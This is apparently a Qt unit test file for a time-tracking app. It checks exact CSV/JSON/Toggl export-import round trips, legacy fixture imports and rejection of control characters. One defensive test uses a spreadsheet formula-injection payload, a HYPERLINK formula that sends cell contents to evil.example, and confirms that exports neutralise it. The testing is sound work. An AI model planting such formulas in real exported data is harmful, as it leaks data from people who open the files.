// Exact round trips (issue 11): demo data exported in every format and imported into an empty
// data folder gives the same report, to the millisecond and the cent; the JSON also keeps the
// adjusted flags and audit trails. Files written by round 1 (tests/fixtures/round1_demo.*) still
// import. Spreadsheet formulas in names and notes are inert in the file and come back unchanged
// (issue 15). Runs in Europe/Paris (CMakeLists.txt), the zone the fixtures were written in.
#include "TestStore.h"
#include "report/Csv.h"
#include "report/EntryExport.h"
#include "report/EntryImport.h"
#include "report/ReportService.h"
#include "timer/DemoData.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>

using namespace st;

namespace {

QByteArray fixture(const QString &name)
{
    QFile f(QStringLiteral(ST_FIXTURES_DIR "/") + name);
    if (!f.open(QIODevice::ReadOnly))
        qFatal("Missing fixture %s", qPrintable(name));
    return f.readAll();
}

// Per task type: name, billable ms, cents, entries; then the total.
QStringList taskTotals(const test::TestStore &s)
{
    EntryFilter period;
    period.from = 0;
    period.to = s.clock.nowMs() + 1;
    const auto report = ReportService(*s.service).build(period, ReportGrouping::TaskType);
    if (!report)
        return {report.error().message};
    QStringList out;
    for (const ReportGroup &g : report->groups)
        out << QStringLiteral("%1 %2 ms %3 cents %4")
                   .arg(g.name)
                   .arg(g.billableMs)
                   .arg(g.costCents)
                   .arg(g.entries);
    out << QStringLiteral("total %1 ms %2 cents %3")
               .arg(report->total.billableMs)
               .arg(report->total.costCents)
               .arg(report->total.entries);
    return out;
}

QString userName(const test::TestStore &s, const QString &id)
{
    return s.service->user(id).value_or(User{}).name;
}

// An entry by names, to the second (what round-1 files kept).
QStringList secondSummaries(const test::TestStore &s)
{
    QStringList out;
    for (const TimeEntry &e : ReportService(*s.service).entries({})) {
        if (!e.endedAt)
            continue;
        out << QStringLiteral("%1|%2|%3|%4|%5|%6|%7")
                   .arg(s.service->taskType(e.taskTypeId)->name, userName(s, e.userId),
                        e.roomId.isEmpty() ? QString() : s.service->room(e.roomId)->name, e.note)
                   .arg(e.startedAt / 1000)
                   .arg(*e.endedAt / 1000)
                   .arg(e.billableMs(s.clock.nowMs()) / 1000);
    }
    out.sort();
    return out;
}

// The audit trail of an entry as a person reads it.
QStringList trail(const test::TestStore &s, const QString &entryId)
{
    QStringList out;
    for (const AuditRecord &a : s.service->auditTrail(entryId))
        out << QStringLiteral("%1|%2|%3|%4|%5|%6")
                   .arg(a.at)
                   .arg(a.actorName, a.action, a.reason,
                        QString::fromUtf8(QJsonDocument(a.before).toJson(QJsonDocument::Compact)),
                        QString::fromUtf8(QJsonDocument(a.after).toJson(QJsonDocument::Compact)));
    return out;
}

Result<qsizetype> importInto(test::TestStore &target, const QByteArray &data, TransferFormat format,
                             int *created = nullptr)
{
    EntryImporter importer(*target.service, target.userId());
    const ImportPlan plan = importer.preview(data, format);
    if (!plan.ok())
        return Error::invalid(importer.describe(plan, false));
    if (created)
        *created = plan.count(ImportRow::Action::Create);
    return importer.apply(plan);
}

} // namespace

class TestRoundTrip final : public QObject
{
    Q_OBJECT

    // Three weeks of demo data, its adjusted entry, and the two running timers stopped after
    // pauses that are not whole seconds (the entry that "gained a second").
    static void demoWithPauses(test::TestStore &s, bool wholeSeconds)
    {
        QVERIFY(demo::populate(*s.service, s.userId()).ok());
        const Ms odd = wholeSeconds ? 0 : 1;
        const QList<TimeEntry> running = s.service->runningEntries();
        QCOMPARE(running.size(), 2);
        for (const TimeEntry &e : running) {
            QVERIFY(s.service->pause(e.userId, s.clock.nowMs() + 250 * odd).ok());
            QVERIFY(s.service->resume(e.userId, s.clock.nowMs() + 1000 + 600 * odd).ok());
        }
        s.clock.advance(2 * 60'000 + 777 * odd);
        for (const TimeEntry &e : running)
            QVERIFY(s.service->stop(e.userId).ok());
    }

    void roundTrip(TransferFormat format)
    {
        // Toggl's columns are whole seconds: its round trip is exact on whole-second data.
        const bool toggl = format == TransferFormat::TogglCsv;
        test::TestStore source;
        demoWithPauses(source, toggl);
        const QList<TimeEntry> entries = ReportService(*source.service).entries({});
        const QByteArray data = EntryExporter(*source.service).write(entries, format);

        test::TestStore target(source.clock.nowMs());
        for (const Room &r : source.service->rooms(true)) // Toggl's tags name rooms that exist
            QVERIFY(target.service->saveRoom(Room{{}, {}, r.name, false, 0}));
        int created = 0;
        const auto written = importInto(target, data, format, &created);
        QVERIFY2(written.ok(), qPrintable(written.ok() ? QString() : written.error().message));
        QCOMPARE(created, int(entries.size()));
        QCOMPARE(taskTotals(target), taskTotals(source));
        if (format == TransferFormat::TogglCsv)
            return;

        // Our formats keep the IDs, every millisecond and the adjusted flags; JSON the trails.
        int adjusted = 0, trails = 0;
        for (const TimeEntry &e : entries) {
            const auto copy = target.service->entry(e.id);
            QVERIFY2(copy, qPrintable(e.id));
            QCOMPARE(copy->startedAt, e.startedAt);
            QCOMPARE(copy->endedAt, e.endedAt);
            QCOMPARE(copy->pausedMs, e.pausedMs);
            QCOMPARE(copy->adjusted, e.adjusted);
            adjusted += e.adjusted;
            if (format == TransferFormat::Json) {
                QCOMPARE(trail(target, e.id), trail(source, e.id));
                trails += !trail(source, e.id).isEmpty();
            }
        }
        QVERIFY(adjusted > 0);
        QCOMPARE(trails > 0, format == TransferFormat::Json);
    }

private Q_SLOTS:
    void csvRoundTripIsExact() { roundTrip(TransferFormat::Csv); }
    void jsonRoundTripIsExactWithFlagsAndTrails() { roundTrip(TransferFormat::Json); }
    void togglRoundTripIsExactToTheSecond() { roundTrip(TransferFormat::TogglCsv); }

    void pausesKeepTheirMilliseconds()
    {
        test::TestStore source;
        demoWithPauses(source, false);
        for (TransferFormat format : {TransferFormat::Csv, TransferFormat::Json}) {
            const QByteArray data = EntryExporter(*source.service)
                                        .write(ReportService(*source.service).entries({}), format);
            // The timers' 1.35 s pauses are written to the millisecond (CSV: the pausedMs cell,
            // then the empty project, client and tags of demo entries).
            QVERIFY(
                data.contains(format == TransferFormat::Json ? "\"pausedMs\": 1350" : ",1350,,,,"));
        }
    }

    // The files round 1 wrote (made by that code, before round 2 changed the formats) still
    // import, to the second.
    void round1FilesStillImport_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<TransferFormat>("format");
        QTest::newRow("csv") << QStringLiteral("round1_demo.csv") << TransferFormat::Csv;
        QTest::newRow("json") << QStringLiteral("round1_demo.json") << TransferFormat::Json;
        QTest::newRow("toggl") << QStringLiteral("round1_demo.toggl.csv")
                               << TransferFormat::TogglCsv;
    }
    void round1FilesStillImport()
    {
        QFETCH(QString, file);
        QFETCH(TransferFormat, format);
        // The fixtures were written from this store: seven days of demo data, desk user "Dana".
        test::TestStore source;
        const auto dana = source.service->ensureUser(QStringLiteral("Dana"));
        QVERIFY(dana && demo::populate(*source.service, dana->id, 7).ok());
        test::TestStore target;
        for (const Room &r : source.service->rooms(true))
            QVERIFY(target.service->saveRoom(Room{{}, {}, r.name, false, 0}));
        const QByteArray data = fixture(file);
        QCOMPARE(EntryImporter::detectFormat(file, data), format);
        const auto written = importInto(target, data, format);
        QVERIFY2(written.ok(), qPrintable(written.ok() ? QString() : written.error().message));
        QCOMPARE(secondSummaries(target), secondSummaries(source));
    }

    // Issue 15: a formula in a note or a person's name is inert in every CSV we write, and comes
    // back unchanged.
    void formulasAreInertAndSurviveARoundTrip()
    {
        const QString hyperlink =
            QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
        const QString sum = QStringLiteral("@SUM(A1)");
        test::TestStore source;
        const auto user = source.service->ensureUser(sum);
        QVERIFY(user);
        const QStringList notes{hyperlink, QStringLiteral("-2+3"), QStringLiteral("'=already"),
                                QStringLiteral("+44 20 7946 0000")};
        Ms t = source.clock.nowMs() - 10 * 3'600'000;
        for (const QString &note : notes) {
            ManualEntry m;
            m.userId = user->id;
            m.taskTypeId = source.typeId(QStringLiteral("Mixing"));
            m.note = note;
            m.startedAt = t;
            m.endedAt = t + 3'600'000;
            QVERIFY(source.service->addManual(m).ok());
            t += 2 * 3'600'000;
        }
        for (TransferFormat format : {TransferFormat::Csv, TransferFormat::TogglCsv}) {
            const QByteArray data = EntryExporter(*source.service)
                                        .write(ReportService(*source.service).entries({}), format);
            const auto records = csv::parse(QString::fromUtf8(data));
            QVERIFY(records);
            for (const csv::Record &r : records.value()) {
                for (const QString &cell : r.fields) {
                    // What a spreadsheet would run: a cell starting with =, +, @, tab, CR, or -
                    // when it is not a number.
                    const bool formula = !cell.isEmpty() &&
                                         QStringLiteral("=+@\t\r-").contains(cell.at(0)) &&
                                         !QRegularExpression(QStringLiteral("^-?\\d+(\\.\\d+)?$"))
                                              .match(cell)
                                              .hasMatch();
                    QVERIFY2(!formula, qPrintable(cell));
                }
            }
            QVERIFY(data.contains("'=HYPERLINK"));
            QVERIFY(data.contains("'@SUM(A1)"));

            test::TestStore target(source.clock.nowMs());
            const auto written = importInto(target, data, format);
            QVERIFY2(written.ok(), qPrintable(written.ok() ? QString() : written.error().message));
            QStringList got;
            for (const TimeEntry &e : ReportService(*target.service).entries({})) {
                QCOMPARE(userName(target, e.userId), sum);
                got << e.note;
            }
            QCOMPARE(got, notes);
        }
    }

    void controlCharactersAreRefusedNamingTheLine()
    {
        test::TestStore s;
        const QByteArray header = EntryExporter::csvHeader().join(QLatin1Char(',')).toUtf8();
        QByteArray csvData = header + "\r\n" +
                             ",Mixing,,,fine,2025-11-27T09:00:00+01:00,2025-11-27T10:00:00+01:00,"
                             "3600,60.00,EUR,false,0,manual,,\r\n" +
                             ",Mixing,,,bad" + QByteArray(1, '\0') +
                             "note,2025-11-27T11:00:00+01:00,2025-11-27T12:00:00+01:00,3600,60.00,"
                             "EUR,false,0,manual,,\r\n";
        EntryImporter importer(*s.service, s.userId());
        const ImportPlan plan = importer.preview(csvData, TransferFormat::Csv);
        QVERIFY(!plan.ok());
        QVERIFY2(plan.errors.first().message.contains(QStringLiteral("Line 3")),
                 qPrintable(plan.errors.first().message));
        QVERIFY(!importer.apply(plan));

        const QByteArray json = "{\"entries\":[{\"taskType\":\"Mixing\",\"note\":\"a\\u0007b\","
                                "\"startedAt\":\"2025-11-27T09:00:00+01:00\","
                                "\"endedAt\":\"2025-11-27T10:00:00+01:00\"}]}";
        const ImportPlan jsonPlan = importer.preview(json, TransferFormat::Json);
        QVERIFY(!jsonPlan.ok());
        QVERIFY2(jsonPlan.errors.first().message.startsWith(QStringLiteral("Entry 1")),
                 qPrintable(jsonPlan.errors.first().message));
        QVERIFY(ReportService(*s.service).entries({}).isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestRoundTrip)
#include "tst_roundtrip.moc"
